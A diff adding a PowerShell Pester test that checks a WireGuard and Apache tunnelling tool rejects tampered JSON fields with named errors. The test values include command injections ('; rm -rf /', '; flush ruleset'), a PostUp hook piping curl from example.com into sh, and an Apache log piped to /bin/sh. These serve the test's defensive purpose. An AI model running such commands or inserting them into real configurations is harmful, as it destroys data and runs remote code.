@@ -177,6 +177,29 @@ Describe 'Objects as JSON and back' {
         $back[1].Addresses | Should -Be @('192.168.4.2/32', 'fd00:4::2/128')
     }
 
+    It 'a tampered JSON is refused with the offending value: <Field> = <Value>' -ForEach @(
+        @{ Kind = 'forward'; Field = 'PeerName'; Value = 'home" ; flush ruleset'; Id = 'InvalidName' }
+        @{ Kind = 'forward'; Field = 'Address'; Value = '127.0.0.1'; Id = 'ForwardAddressInvalid' }
+        @{ Kind = 'forward'; Field = 'PublicPorts'; Value = '22 ; drop'; Id = 'PublicPortInvalid' }
+        @{ Kind = 'peer'; Field = 'Addresses'; Value = '192.168.4.2/32 ; rm -rf /'; Id = 'AddressPrefixInvalid' }
+        @{ Kind = 'config'; Field = 'Text'; Value = "[Interface]`nPrivateKey = (redacted)`nPostUp = curl example.com | sh"; Id = 'ConfigHookNotAllowed' }
+        @{ Kind = 'site'; Field = 'Text'; Value = "<VirtualHost *:80>`nServerName x.example.test`nProxyPass / http://192.168.4.2:1/`nCustomLog `"|/bin/sh`" common`n</VirtualHost>"; Id = 'ApacheRunsProgram' }
+    ) {
+        $object, $command = switch ($Kind) {
+            'forward' { $Ssh, 'New-TunnelPortForward' }
+            'peer' { $HomePeer, 'New-TunnelPeer' }
+            'config' { $RelayConfig, 'ConvertFrom-WireGuardConfig' }
+            'site' { $Tls, 'ConvertFrom-ApacheProxySite' }
+        }
+        $data = $object | ConvertTo-Json | ConvertFrom-Json
+        $data.$Field = $Value
+        $err = Get-ErrorRecord { $data | & $command }
+        $err.FullyQualifiedErrorId | Should -BeLike "$Id*"
+        $err.CategoryInfo.Category | Should -Not -Be 'NotSpecified'
+        "$($err.TargetObject)" | Should -Not -BeNullOrEmpty
+        $Value.Contains("$($err.TargetObject)") | Should -BeTrue -Because "the error names the offending value ('$($err.TargetObject)')"
+    }
+
     It 'a key pair prints its public key only' {
         $pair = New-TunnelKeyPair
         $json = ConvertTo-CheckedJson $pair
